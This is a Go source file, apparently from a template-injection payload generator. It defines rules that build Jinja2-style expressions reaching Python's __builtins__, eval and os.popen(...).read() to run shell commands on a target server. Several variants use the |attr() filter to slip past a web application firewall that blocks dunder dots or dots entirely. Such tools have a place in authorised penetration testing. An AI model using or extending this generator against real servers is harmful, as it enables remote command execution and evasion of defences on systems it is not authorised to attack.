package ssti

import "fmt"

// execRules covers reaching the Python object hierarchy and executing a
// shell command: Import, EvalFunc, Eval, ConfigAccess,
// ModuleOSPopenRead and OSPopenRead.
func execRules() []Rule {
	var rules []Rule

	rules = append(rules,
		Rule{
			Name:     "import-dot",
			Applies:  GenImportFunc,
			Priority: 0,
			Subgoals: func(g Goal, _ *Context) []Goal {
				return globalRefSubgoalsDot(String(""), g.Str, defaultGadgetIndex)
			},
			Weave: func(parts []string, g Goal, ctx *Context) string { return globalRefWeaveDot(parts) },
		},
		Rule{
			Name:     "import-attr-fallback",
			Applies:  GenImportFunc,
			Priority: 1,
			Subgoals: func(g Goal, _ *Context) []Goal {
				return globalRefSubgoalsAttr(String(""), g.Str, defaultGadgetIndex)
			},
			Weave: func(parts []string, g Goal, ctx *Context) string { return globalRefWeaveAttr(parts) },
		},
	)

	rules = append(rules,
		Rule{
			Name:     "eval-func-dot",
			Applies:  GenEvalFunc,
			Priority: 0,
			Subgoals: func(g Goal, _ *Context) []Goal {
				subs := globalRefSubgoalsDot(String(""), "__builtins__", defaultGadgetIndex)
				return append(subs, String("eval"))
			},
			Weave: func(parts []string, g Goal, ctx *Context) string {
				return fmt.Sprintf("%s[%s]", globalRefWeaveDot(parts[:4]), parts[4])
			},
		},
	)

	rules = append(rules, Rule{
		Name:     "eval-invoke",
		Applies:  GenEval,
		Priority: 0,
		Subgoals: func(g Goal, _ *Context) []Goal { return []Goal{EvalFunc(), *g.Inner} },
		Weave: func(parts []string, g Goal, ctx *Context) string {
			return fmt.Sprintf("%s(%s)", parts[0], parts[1])
		},
	})

	rules = append(rules, Rule{
		Name:     "config-access",
		Applies:  GenConfig,
		Priority: 0,
		Weave:    func(parts []string, g Goal, ctx *Context) string { return "config" },
	})

	rules = append(rules,
		Rule{
			Name:     "module-os-popen-read-dot",
			Applies:  GenModuleOSPopenRead,
			Priority: 0,
			Subgoals: func(g Goal, _ *Context) []Goal { return []Goal{Import("os"), String(g.Str)} },
			Weave: func(parts []string, g Goal, ctx *Context) string {
				return fmt.Sprintf("%s.popen(%s).read()", parts[0], parts[1])
			},
		},
		Rule{
			Name:     "module-os-popen-read-attr",
			Applies:  GenModuleOSPopenRead,
			Priority: 1,
			Subgoals: func(g Goal, _ *Context) []Goal {
				return []Goal{Import("os"), String("popen"), String(g.Str), String("read")}
			},
			Weave: func(parts []string, g Goal, ctx *Context) string {
				return fmt.Sprintf("%s|attr(%s)(%s)|attr(%s)()", parts[0], parts[1], parts[2], parts[3])
			},
		},
	)

	rules = append(rules,
		Rule{
			// Fully dot-literal: shortest, tried first.
			Name:     "os-popen-read-dot",
			Applies:  GenOSPopenRead,
			Priority: 0,
			Subgoals: func(g Goal, _ *Context) []Goal {
				subs := globalRefSubgoalsDot(String(""), "os", defaultGadgetIndex)
				return append(subs, String(g.Str))
			},
			Weave: func(parts []string, g Goal, ctx *Context) string {
				return fmt.Sprintf("%s.popen(%s).read()", globalRefWeaveDot(parts[:4]), parts[4])
			},
		},
		Rule{
			// os-reach via |attr() (handles a WAF blocking the dunder dots),
			// popen/read still dot-form.
			Name:     "os-popen-read-attr-reach",
			Applies:  GenOSPopenRead,
			Priority: 1,
			Subgoals: func(g Goal, _ *Context) []Goal {
				subs := globalRefSubgoalsAttr(String(""), "os", defaultGadgetIndex)
				return append(subs, String(g.Str))
			},
			Weave: func(parts []string, g Goal, ctx *Context) string {
				return fmt.Sprintf("%s.popen(%s).read()", globalRefWeaveAttr(parts[:9]), parts[9])
			},
		},
		Rule{
			// Fully |attr()-form: both the os-reach walk and popen/read use
			// the attribute filter, for a WAF blocking "." entirely.
			Name:     "os-popen-read-attr-full",
			Applies:  GenOSPopenRead,
			Priority: 2,
			Subgoals: func(g Goal, _ *Context) []Goal {
				subs := globalRefSubgoalsAttr(String(""), "os", defaultGadgetIndex)
				subs = append(subs, String("popen"), String(g.Str), String("read"))
				return subs
			},
			Weave: func(parts []string, g Goal, ctx *Context) string {
				osRef := globalRefWeaveAttr(parts[:9])
				return fmt.Sprintf("%s|attr(%s)(%s)|attr(%s)()", osRef, parts[9], parts[10], parts[11])
			},
		},
	)

	return rules
}
